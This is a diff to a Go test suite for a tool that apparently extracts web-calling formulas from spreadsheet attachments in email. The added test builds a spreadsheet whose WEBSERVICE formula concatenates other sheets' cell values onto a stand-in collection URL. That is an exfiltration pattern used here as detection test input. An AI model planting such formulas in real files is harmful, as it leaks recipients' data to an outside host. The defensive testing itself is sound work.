@@ -75,7 +75,7 @@ func FuzzReadXLM(fz *testing.F) {
 			}
 		}
 		decompileFormula(b, &formulaEnv{names: []string{"a"}})
-		decompileFormula(b, &formulaEnv{names: []string{"a"}, biff12: true, xti: []int{0, 1}, supbooks: []supBook{{app: "x", topic: "y", dde: true}}})
+		decompileFormula(b, &formulaEnv{names: []string{"a"}, biff12: true, xti: []xtiRef{{0, 0}, {1, 2}}, self: map[int]bool{1: true}, sheets: []string{"s"}, supbooks: []supBook{{app: "x", topic: "y", dde: true}}})
 	})
 }
 
@@ -186,6 +186,42 @@ func TestXLSExternalLinksWrittenByLibreOffice(t *testing.T) {
 	}
 }
 
+// TestXLS3DReferencesWrittenByLibreOffice: a reference to another sheet
+// (ptgRef3d, ptgArea3d: an EXTERNSHEET entry of the workbook's own SUPBOOK
+// and the cell) is listed with its sheet, as LibreOffice wrote it, whose
+// name may need quotes; a defined name's reference too.
+func TestXLS3DReferencesWrittenByLibreOffice(t *testing.T) {
+	cell := func(v string) string {
+		return `<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`
+	}
+	formula := func(f string) string {
+		return `<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`
+	}
+	fods := soffice.Flat("spreadsheet", `<office:body><office:spreadsheet>`+
+		`<table:table table:name="Form"><table:table-row>`+formula(`COM.MICROSOFT.WEBSERVICE([$Setup.A1]&amp;[$'Bob''s data'.B2]&amp;base)`)+
+		formula(`CONCATENATE([$Setup.A1:.B1])`)+`</table:table-row></table:table>`+
+		`<table:table table:name="Setup"><table:table-row>`+cell("https://collect.example.net/c?n=")+cell("x")+`</table:table-row></table:table>`+
+		`<table:table table:name="Bob's data"><table:table-row>`+cell("a")+`</table:table-row><table:table-row>`+cell("b")+cell("c")+`</table:table-row></table:table>`+
+		`<table:named-expressions><table:named-range table:name="base" table:base-cell-address="$Form.$A$1" table:cell-range-address="$Setup.$B$1"/></table:named-expressions></office:spreadsheet></office:body>`)
+	out, err := soffice.ConvertFiles(t.TempDir(), "xls", map[string][]byte{"form.fods": []byte(fods)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := mail("form", "see attached", "form.xls", out["form.fods"])
+	expand(t, m, Options{})
+	got := string(mustPart(t, m, "2/form.xls/web-formulas").Content)
+	for _, want := range []string{
+		"' name base = 'Setup'!R1C2\n",
+		"Form!R1C1: =_xlfn.WEBSERVICE('Setup'!R1C1&'Bob''s data'!R2C2&base)\n",
+		"Form!R1C2: =CONCATENATE('Setup'!R1C1:R1C2)\n",
+		"Setup!R1C1 = \"https://collect.example.net/c?n=\"\n",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("web-formulas lacks %q:\n%s", want, got)
+		}
+	}
+}
+
 func TestXLSVirtualPath(t *testing.T) {
 	for in, want := range map[string]string{
 		"\x01\x01@203.0.113.7\x03share\x03b.xls": `\\203.0.113.7\share\b.xls`,
@@ -229,7 +265,7 @@ func TestXLSWebFormulasWrittenByLibreOffice(t *testing.T) {
 	}
 	m := mail("rates", "see attached", "rates.xls", out["rates.fods"])
 	expand(t, m, Options{})
-	want := "' name site = R3C3\n" +
+	want := "' name site = 'Rates'!R3C3\n" +
 		"Rates!R1C1: =_xlfn.WEBSERVICE(R3C1&_xlfn.ENCODEURL(R1C2))\n" +
 		"Rates!R1C2 = \"x\"\n" +
 		"Rates!R2C1: =SUM(1,2)\n" +
